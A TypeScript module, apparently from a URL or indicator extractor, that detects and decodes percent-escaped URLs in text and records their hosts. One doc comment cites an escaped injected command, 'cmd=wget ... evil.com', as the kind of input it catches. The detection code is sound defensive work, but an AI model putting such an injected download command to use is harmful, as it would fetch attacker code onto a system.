import { decodePercent } from '../links/link-parts.ts';
import type { Extracted, Reading } from '../extracted.ts';
import { note } from '../extracted.ts';
import { isHostCharacter } from './characters.ts';
import { readUrl } from './find-url.ts';
import type { HostRun } from './host-name-run.ts';
import { readHostRun } from './host-name-run.ts';
import { endOf } from './url-host.ts';

/** `http%3A%2F%2F`, escaped up to three times over. */
const ENCODED_SCHEME = /(?:https?|ftp)%(?:25){0,2}3a(?:%(?:25){0,2}2f){2}(?=[\w.~%*!-])/iy;
/** Longest URL that is decoded, in characters. */
const MAX_ENCODED = 4096;
/** User, host and port: up to the next slash, question mark or number sign, escaped as often. */
const AUTHORITY = /(?:(?!%(?:25){0,2}(?:2f|3f|23|5c))[\w.~%*!-]){1,400}/iy;
/** So much of the path tells whether it is a URL, in characters. */
const PATH_HEAD = 16;

/** Reads a URL that stands percent-escaped in a text (`cmd=wget%20http%3A%2F%2Fevil.com%2Fa`); `run` is its scheme. Gives the place behind it, or -1. */
export function readEncodedUrl(reading: Reading, run: HostRun): number {
  const { text } = reading;
  const from = endOf(ENCODED_SCHEME, text, run.start);
  const authority = from < 0 ? -1 : endOf(AUTHORITY, text, from);
  if (authority < 0) return -1;
  const headEnd = encodedEnd(text, authority, authority + PATH_HEAD);
  const head = findsIn(reading, text.slice(run.start, headEnd));
  if (head.length === 0) return -1;
  const end = encodedEnd(text, headEnd, text.length);
  // One that is far too long is passed over whole: trying it again from each scheme in it would not be linear.
  if (end - run.start > MAX_ENCODED) return end;
  const finds = end === headEnd ? head : findsIn(reading, text.slice(run.start, end));
  for (const find of finds) note(reading, find.type, find.value, { start: run.start, end });
  return end;
}

/** The finds of a URL that is escaped; none when it is no URL. */
function findsIn(reading: Reading, encoded: string): readonly Extracted[] {
  const url = decoded(encoded);
  const inner: Reading = { ...reading, text: url, found: [], from: 0 };
  return readUrl(inner, readHostRun(url, 0)) < 0 ? [] : inner.found;
}

/** Where the characters of an escaped URL end, at `limit` at the latest. */
function encodedEnd(text: string, from: number, limit: number): number {
  let at = from;
  while (at < limit && isEncodedCharacter(text.charCodeAt(at))) at += 1;
  return at;
}

/** Letters, digits, and `_.~%*!-`. */
function isEncodedCharacter(code: number): boolean {
  return (code < 128 && isHostCharacter(code)) || code === 37 || code === 126 || code === 42 || code === 33;
}

/** Decoded as often as it takes to be a URL. */
function decoded(text: string): string {
  let url = text;
  for (let pass = 0; pass < 3 && !url.includes('://'); pass += 1) url = decodePercent(url);
  return url;
}
